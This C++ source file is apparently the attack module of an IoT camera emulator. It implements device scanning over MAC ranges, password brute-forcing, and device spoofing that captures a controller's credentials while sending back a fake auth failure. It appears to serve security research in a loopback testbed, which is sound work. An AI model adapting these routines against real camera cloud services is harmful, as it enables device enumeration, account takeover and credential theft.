#include "iotemu/attacks.hpp"

#include <algorithm>
#include <cctype>
#include <chrono>
#include <fstream>
#include <random>
#include <stdexcept>
#include <thread>

#include "iotemu/camera.hpp"
#include "iotemu/registry.hpp"
#include "iotemu/wire.hpp"

namespace iotemu::attack {

using endpoint::ControllerConfig;
using endpoint::ControllerSession;
using endpoint::FetchStatus;
using net::Addr;
using net::Millis;
using wire::WireMessage;

namespace {

bool hex6(const std::string& s) {
    return s.size() == 6 && std::all_of(s.begin(), s.end(), [](unsigned char c) {
        return std::isxdigit(c);
    });
}

uint64_t hex_to_u64(const std::string& s) { return std::stoull(s, nullptr, 16); }

std::string u64_to_hex6(uint64_t v) {
    char buf[8];
    std::snprintf(buf, sizeof(buf), "%06llx", static_cast<unsigned long long>(v));
    return buf;
}

}  // namespace

void ScanRange::validate() const {
    if (!hex6(vendor_prefix) || !hex6(start_suffix) || !hex6(end_suffix))
        throw std::invalid_argument("prefix and suffixes must be 6 hex chars");
    if (hex_to_u64(start_suffix) > hex_to_u64(end_suffix))
        throw std::invalid_argument("start suffix exceeds end suffix");
}

uint64_t ScanRange::size() const {
    return hex_to_u64(end_suffix) - hex_to_u64(start_suffix) + 1;
}

std::string ScanRange::mac_at(uint64_t index) const {
    return vendor_prefix + u64_to_hex6(hex_to_u64(start_suffix) + index);
}

std::vector<ScanResult> scan_devices(const ScanRange& range, const ScanOptions& opts,
                                     std::shared_ptr<EventLog> log) {
    range.validate();
    if (range.size() > opts.range_cap)
        throw std::invalid_argument("scan range exceeds configured cap");
    net::UdpSocket sock(Addr::loopback(0));
    std::mt19937_64 rng(std::random_device{}());
    std::vector<ScanResult> results;
    results.reserve(range.size());
    auto pace = std::chrono::duration<double>(1.0 / opts.probes_per_second);
    auto next_probe = std::chrono::steady_clock::now();
    for (uint64_t i = 0; i < range.size(); ++i) {
        std::this_thread::sleep_until(next_probe);
        next_probe += std::chrono::duration_cast<std::chrono::steady_clock::duration>(pace);
        std::string mac = range.mac_at(i);
        Addr local = sock.local_addr();
        WireMessage query = WireMessage::code(2030);
        query.add("mac", mac)
            .add("lan_ip", local.ip_string())
            .add("lan_port", std::to_string(local.port))
            .add("fw", "scan")
            .add("relay_id", endpoint::make_relay_id(mac));
        sock.send_to(wire::encode(query, rng()), opts.registration_controller);
        ProbeOutcome outcome = ProbeOutcome::Unknown;
        auto deadline = std::chrono::steady_clock::now() + opts.probe_timeout;
        while (std::chrono::steady_clock::now() < deadline) {
            auto got = sock.recv_from(Millis{10});
            if (!got) continue;
            try {
                WireMessage msg = wire::decode(got->first);
                if (msg.is_code(2040) && msg.get("mac") == mac) {
                    outcome = ProbeOutcome::Online;
                    break;
                }
                if (msg.is_code(5000)) {
                    outcome = ProbeOutcome::Offline;
                    break;
                }
            } catch (const wire::WireError&) {
            }
        }
        results.push_back({std::move(mac), outcome});
    }
    std::sort(results.begin(), results.end(),
              [](const ScanResult& a, const ScanResult& b) { return a.mac < b.mac; });
    size_t online = std::count_if(results.begin(), results.end(), [](const ScanResult& r) {
        return r.outcome == ProbeOutcome::Online;
    });
    log->emit("attack", "scan_done", {{"probed", results.size()}, {"online", online}});
    return results;
}

CandidateSpace pin_space(int digits) {
    if (digits < 1 || digits > 9) throw std::invalid_argument("pin digits out of range");
    uint64_t limit = 1;
    for (int i = 0; i < digits; ++i) limit *= 10;
    auto next = std::make_shared<uint64_t>(0);
    return [next, limit, digits]() -> std::optional<std::string> {
        if (*next >= limit) return std::nullopt;
        char buf[16];
        std::snprintf(buf, sizeof(buf), "%0*llu", digits,
                      static_cast<unsigned long long>((*next)++));
        return std::string(buf);
    };
}

CandidateSpace wordlist_space(std::vector<std::string> words) {
    auto state = std::make_shared<std::pair<std::vector<std::string>, size_t>>(
        std::move(words), 0);
    return [state]() -> std::optional<std::string> {
        if (state->second >= state->first.size()) return std::nullopt;
        return state->first[state->second++];
    };
}

CandidateSpace wordlist_file_space(const std::string& path) {
    std::ifstream in(path);
    if (!in) throw std::invalid_argument("cannot open wordlist: " + path);
    std::vector<std::string> words;
    std::string line;
    while (std::getline(in, line)) {
        if (!line.empty() && line.back() == '\r') line.pop_back();
        if (!line.empty()) words.push_back(line);
    }
    return wordlist_space(std::move(words));
}

CandidateSpace charset_space(std::string alphabet, size_t max_len) {
    if (alphabet.empty() || max_len == 0)
        throw std::invalid_argument("empty charset space");
    // Odometer over lengths 1..max_len.
    struct State {
        std::string alphabet;
        size_t max_len;
        std::vector<size_t> idx;  // current word, digit indices
        bool done = false;
    };
    auto st = std::make_shared<State>(State{std::move(alphabet), max_len, {0}, false});
    return [st]() -> std::optional<std::string> {
        if (st->done) return std::nullopt;
        std::string word;
        for (size_t i : st->idx) word += st->alphabet[i];
        // advance
        size_t pos = st->idx.size();
        while (pos > 0) {
            if (++st->idx[pos - 1] < st->alphabet.size()) break;
            st->idx[pos - 1] = 0;
            --pos;
        }
        if (pos == 0) {
            if (st->idx.size() >= st->max_len)
                st->done = true;
            else
                st->idx.assign(st->idx.size() + 1, 0);
        }
        return word;
    };
}

BruteResult brute_force(const std::string& mac, CandidateSpace candidates,
                        const BruteOptions& opts, std::shared_ptr<EventLog> log) {
    ControllerConfig cfg;
    cfg.target_mac = mac;
    cfg.registration_controller = opts.registration_controller;
    auto open = [&]() -> std::unique_ptr<ControllerSession> {
        auto s = std::make_unique<ControllerSession>(cfg, log);
        auto disc = s->discover();
        if (!disc) throw net::NetError("camera offline");
        s->open_relay();
        return s;
    };
    auto session = open();
    BruteResult result;
    while (auto candidate = candidates()) {
        int retries = 0;
        for (;;) {
            ++result.attempts;
            auto r = session->request(endpoint::kImageUrl,
                                      endpoint::CameraIdentity::kUsername, *candidate);
            if (r.status == FetchStatus::Ok) {
                result.found = true;
                result.password = *candidate;
                log->emit("attack", "brute_found",
                          {{"mac", mac}, {"attempts", result.attempts}});
                return result;
            }
            if (r.status == FetchStatus::AuthFailure) break;
            // relay hiccup: reopen the session and retry this candidate
            --result.attempts;
            if (++retries > opts.relay_retry_limit)
                throw net::NetError("relay failure during brute force: " + r.error);
            session->close();
            session = open();
        }
    }
    log->emit("attack", "brute_exhausted", {{"mac", mac}, {"attempts", result.attempts}});
    return result;
}

std::optional<CapturedCredential> spoof_device(const std::string& mac,
                                               const SpoofOptions& opts,
                                               std::shared_ptr<EventLog> log) {
    if (!cloud::valid_mac(mac)) throw std::invalid_argument("bad mac");
    net::UdpSocket sock(Addr::loopback(0));
    std::mt19937_64 rng(std::random_device{}());
    auto started = std::chrono::steady_clock::now();
    auto next_register = started;

    auto await_code = [&](int code, Millis timeout) -> std::optional<WireMessage> {
        auto deadline = std::chrono::steady_clock::now() + timeout;
        while (std::chrono::steady_clock::now() < deadline) {
            auto got = sock.recv_from(Millis{10});
            if (!got) continue;
            try {
                WireMessage msg = wire::decode(got->first);
                if ((code >= 1000 && msg.is_code(code)) ||
                    (code < 1000 && msg.is_command(code)))
                    return msg;
                if (msg.is_code(2020)) return msg;  // surfaced to the caller
            } catch (const wire::WireError&) {
            }
        }
        return std::nullopt;
    };

    auto register_once = [&]() -> std::optional<WireMessage> {
        // STEP 1-4 under the victim's MAC; any 2020 seen mid-registration is
        // returned immediately.
        WireMessage hello = WireMessage::command(1);
        hello.add("id", "spoof-" + std::to_string(rng()));
        sock.send_to(wire::encode(hello, rng()), opts.registration_cmd);
        auto rep = await_code(10, Millis{1000});
        if (!rep) return std::nullopt;
        if (rep->is_code(2020)) return rep;
        Addr relay_udp{Addr::parse_ip(rep->get("relay_ip")),
                       static_cast<uint16_t>(std::stoi(rep->get("relay_port")))};
        WireMessage hello2 = WireMessage::command(1);
        hello2.add("id", "spoof-" + std::to_string(rng()));
        sock.send_to(wire::encode(hello2, rng()), relay_udp);
        auto rep2 = await_code(10, Millis{1000});
        if (rep2 && rep2->is_code(2020)) return rep2;
        WireMessage done = WireMessage::command(2);
        done.add("id", "spoof-" + std::to_string(rng()));
        sock.send_to(wire::encode(done, rng()), opts.registration_cmd);
        WireMessage online = WireMessage::code(3000);
        online.add("mac", mac);
        sock.send_to(wire::encode(online, rng()), opts.registration_camera);
        Addr local = sock.local_addr();
        WireMessage info = WireMessage::code(1010);
        info.add("mac", mac)
            .add("model", "IC-3116W")
            .add("type", "camera")
            .add("alias", "spoof")
            .add("lan_ip", local.ip_string())
            .add("lan_port", std::to_string(local.port))
            .add("serial", "ffffffffff")
            .add("fw", "1.0.0")
            .add("status", "online");
        sock.send_to(wire::encode(info, rng()), opts.registration_camera);
        auto ack = await_code(1020, Millis{1000});
        if (ack && ack->is_code(2020)) return ack;
        log->emit("attack", "spoof_registered", {{"mac", mac}});
        return std::nullopt;
    };

    std::optional<WireMessage> invite;
    while (!invite) {
        auto now = std::chrono::steady_clock::now();
        if (opts.deadline.count() > 0 && now - started > opts.deadline) {
            log->emit("attack", "spoof_timeout", {{"mac", mac}});
            return std::nullopt;
        }
        if (now >= next_register) {
            next_register = now + opts.register_interval;
            invite = register_once();
            if (invite) break;
        }
        auto got = sock.recv_from(Millis{20});
        if (!got) continue;
        try {
            WireMessage msg = wire::decode(got->first);
            if (msg.is_code(2020)) invite = msg;
        } catch (const wire::WireError&) {
        }
    }

    // A controller query was routed to us: attach to the relay as the camera
    // and read its authenticated request.
    try {
        Addr relay_tcp{Addr::parse_ip(invite->get("relay_ip")),
                       static_cast<uint16_t>(std::stoi(invite->get("relay_port")))};
        auto conn = net::TcpSocket::connect(relay_tcp, Millis{2000});
        WireMessage attach = WireMessage::code(7000);
        attach.add("mac", mac).add("relay_id", invite->get("relay_id")).add("role", "camera");
        conn.send_frame(wire::encode(attach, rng()));
        auto frame = conn.recv_frame(Millis{5000});
        if (!frame) {
            log->emit("attack", "spoof_no_request", {{"mac", mac}});
            return std::nullopt;
        }
        WireMessage req = wire::decode(*frame);
        auto [user, pass] = wire::decode_auth(req.get("auth"));
        // Answer with an authorization failure so the controller retries
        // against the real camera later, then go quiet.
        WireMessage resp = WireMessage::code(7020);
        resp.add("status", "auth_failure");
        conn.send_frame(wire::encode(resp, rng()));
        conn.shutdown();
        double now_unix = std::chrono::duration<double>(
                              std::chrono::system_clock::now().time_since_epoch())
                              .count();
        log->emit("attack", "spoof_captured", {{"mac", mac}, {"username", user}});
        return CapturedCredential{mac, user, pass, now_unix};
    } catch (const std::exception& e) {
        log->emit("attack", "spoof_error", {{"mac", mac}, {"error", e.what()}});
        return std::nullopt;
    }
}

}  // namespace iotemu::attack
